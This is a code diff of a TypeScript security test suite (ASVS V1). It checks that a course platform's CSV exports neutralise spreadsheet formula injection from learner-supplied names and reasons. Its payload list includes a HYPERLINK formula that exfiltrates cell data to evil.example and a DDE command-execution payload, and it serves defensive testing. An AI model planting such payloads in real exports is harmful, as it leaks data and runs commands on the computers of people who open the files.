@@ -98,7 +98,6 @@ describe('ASVS V1 Encoding and Sanitization', () => {
   );
 
   describe('V1.2: a spreadsheet runs nothing of what learners wrote', () => {
-    let learner: Person;
     const FORMULAS = [
       '=HYPERLINK("http://evil.example?"&A1,"x")',
       "+cmd|' /C calc'!A0",
@@ -110,32 +109,35 @@ describe('ASVS V1 Encoding and Sanitization', () => {
       '\uFF1D1+1',
     ];
 
-    it.each(FORMULAS)('%s', async (formula) => {
-      learner = await academy.learner({ fullName: formula });
-      await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
-        name: formula,
-        email: learner.email,
-      });
-      await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
-        transaction_id: formula.slice(0, 100),
-      });
-      made(
-        await academy.administrator.as.post(`/api/admin/courses/${scene.otherCourse.id}/enrollments`, {
+    beforeAll(async () => {
+      for (const formula of FORMULAS) {
+        const learner = await academy.learner({ fullName: formula });
+        await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
+          name: formula,
           email: learner.email,
-          reason: formula,
-        }),
-      );
-      for (const file of ['payments', 'enrolments', 'coupon-usages']) {
-        const answer = await academy.administrator.as.get(`/api/admin/exports/${file}.csv`);
-        expect(answer.status).toBe(200);
-        expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
-        const cells = [...answer.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
-          cell!.replaceAll('""', '"'),
+        });
+        await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
+          transaction_id: formula.slice(0, 100),
+        });
+        made(
+          await academy.administrator.as.post(`/api/admin/courses/${scene.otherCourse.id}/enrollments`, {
+            email: learner.email,
+            reason: formula,
+          }),
         );
-        if (file === 'payments') expect(cells.join()).toContain(formula);
-        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
       }
+    });
+
+    it.each(['payments', 'enrolments', 'coupon-usages'])('of %s', async (file) => {
+      const answer = await academy.administrator.as.get(`/api/admin/exports/${file}.csv`);
+      expect(answer.status).toBe(200);
+      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
+      const cells = [...answer.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
+        cell!.replaceAll('""', '"'),
+      );
+      if (file === 'payments') for (const formula of FORMULAS) expect(cells.join()).toContain(formula);
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
     });
   });
 
